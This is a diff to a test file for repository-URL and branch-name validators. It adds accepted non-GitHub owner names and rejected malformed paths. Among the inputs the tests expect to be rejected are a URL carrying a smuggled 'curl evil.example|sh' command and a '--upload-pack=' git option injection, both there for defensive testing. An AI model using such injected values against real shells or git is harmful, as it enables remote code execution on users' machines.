@@ -16,6 +16,11 @@ describe('parseRepoUrl', () => {
 		{ raw: '  https://gitlab.com/team-1/my.repo  ', url: 'https://gitlab.com/team-1/my.repo' },
 		{ raw: 'https://codeberg.org/x/y_z', url: 'https://codeberg.org/x/y_z' },
 		{ raw: 'https://bitbucket.org/x/y-z', url: 'https://bitbucket.org/x/y-z' },
+		// Owners with dots and underscores exist outside GitHub.
+		{ raw: 'https://gitlab.com/my.group/repo', url: 'https://gitlab.com/my.group/repo' },
+		{ raw: 'https://bitbucket.org/team_x/repo', url: 'https://bitbucket.org/team_x/repo' },
+		{ raw: 'https://codeberg.org/a_b/c', url: 'https://codeberg.org/a_b/c' },
+		{ raw: 'https://gitlab.com/_x/y', url: 'https://gitlab.com/_x/y' },
 		{ raw: 'https://github.com/a/b.git.git', url: 'https://github.com/a/b.git.git' },
 	])('accepts $raw as $url', ({ raw, url }) => {
 		const parsed = parseRepoUrl(raw);
@@ -49,6 +54,11 @@ describe('parseRepoUrl', () => {
 		'https://github.com/a/b..c',
 		'https://github.com/a/.git',
 		'https://github.com/a_b/c',
+		'https://github.com/a.b/c',
+		'https://gitlab.com/.x/y',
+		'https://gitlab.com/-x/y',
+		'https://gitlab.com/a..b/y',
+		'https://codeberg.org/../y',
 		`https://github.com/${'o'.repeat(40)}/b`,
 		`https://github.com/a/${'n'.repeat(101)}`,
 		'https://github.com/a/b;curl evil.example|sh',
@@ -75,6 +85,7 @@ describe('parseBranch', () => {
 		expect(parseBranch(raw)).toEqual({ ok: true, value: raw });
 	});
 	test.each([
+		'HEAD',
 		'-b',
 		'--upload-pack=x',
 		'a..b',
